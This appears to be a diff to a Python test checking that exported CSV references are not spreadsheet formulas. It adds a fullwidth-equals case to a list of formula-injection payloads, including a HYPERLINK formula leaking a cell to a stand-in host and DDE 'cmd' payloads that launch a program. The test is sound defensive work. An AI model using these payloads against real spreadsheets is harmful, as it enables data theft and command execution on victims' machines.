@@ -131,7 +131,14 @@ def test_ids_are_exported_as_csv(at_simulator: Command, folder: Path) -> None:
 
 
 def test_exported_references_are_no_formulas(at_simulator: Command, folder: Path) -> None:
-    formulas = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "=1*1"]
+    formulas = [
+        '=HYPERLINK("http://x/?"&A1)',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|'/C calc'!A0",
+        "-2+3",
+        "=1*1",
+        "\uff1d1+1",
+    ]
     unchanged = ["+385 91 234-567", "-12", "c-1", "O'Neil"]
     with (folder / "c.csv").open("w", encoding="utf-8", newline="") as file:
         csv.writer(file).writerows([["reference", "name"], *([it, "Ada Lovelace"] for it in formulas + unchanged)])
